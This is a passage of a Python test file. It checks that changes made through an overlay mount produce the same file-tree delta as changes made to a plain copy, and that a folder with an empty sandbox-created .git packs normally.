            print("cannot mount an overlay:", done.stderr.decode().strip()); sys.exit(3)
        mutate(merged, int(seed))
        subprocess.run(["umount", merged], check=True)
""")


@pytest.mark.skipif(os.geteuid() != 0 or shutil.which("unshare") is None, reason="needs root to mount an overlay")
@pytest.mark.parametrize("seed", range(12))
def test_an_overlays_upper_dir_reads_as_the_same_changes_as_a_copy(tmp_path, seed):
    import random

    base_dir = tmp_path / "base"
    base_dir.mkdir()
    (base_dir / "top.txt").write_text("top\n")
    _random_tree(base_dir, random.Random(seed))
    packed = pack_dir(base_dir)
    for name in ("lower", "upper", "work", "merged", "copy", "from-overlay", "from-copy"):
        (tmp_path / name).mkdir()
        if name in ("lower", "copy", "from-overlay", "from-copy"):
            extract(packed.tar, tmp_path / name)
    script = tmp_path / "mutate.py"
    script.write_text(_MUTATE)
    done = subprocess.run(["unshare", "-m", sys.executable, str(script), *(str(tmp_path / n) for n in
                           ("lower", "upper", "work", "merged")), str(seed)], capture_output=True, text=True)
    if done.returncode == 3:
        pytest.skip(f"overlay cannot be mounted here: {done.stdout.strip()[:200]}")
    assert done.returncode == 0, done.stdout + done.stderr
    namespace: dict = {}
    exec(compile(_MUTATE, "mutate", "exec"), namespace)
    namespace["mutate"](tmp_path / "copy", seed)
    overlay = tree_delta(packed.manifest, tmp_path / "merged", upper=tmp_path / "upper")
    copy = tree_delta(packed.manifest, tmp_path / "copy")
    assert (overlay.added, overlay.changed, overlay.deleted) == (copy.added, copy.changed, copy.deleted)
    assert overlay.entries == copy.entries
    for delta, folder in ((overlay, "from-overlay"), (copy, "from-copy")):
        assert apply_delta(tmp_path / folder, packed.manifest, _checkpoint(delta), delta.tar).refused == []
        assert pack_dir(tmp_path / folder).manifest == pack_dir(tmp_path / "copy").manifest


def test_a_folder_with_the_sandboxs_empty_git_packs_as_any_folder(tmp_path):
    """A run in a folder without a repository leaves an empty `.git` (the sandbox's, so that no
    command can make one); `--upload` of that folder then failed on `git ls-files` (newcomer's
    finding). Git takes an empty `.git` for no repository, and so does packing."""
    folder = _project(tmp_path / "p")
    (folder / ".git").mkdir()
    packed = pack_dir(folder)
    assert "src/app.py" in packed.manifest and not any(p.startswith(".git") for p in packed.manifest)
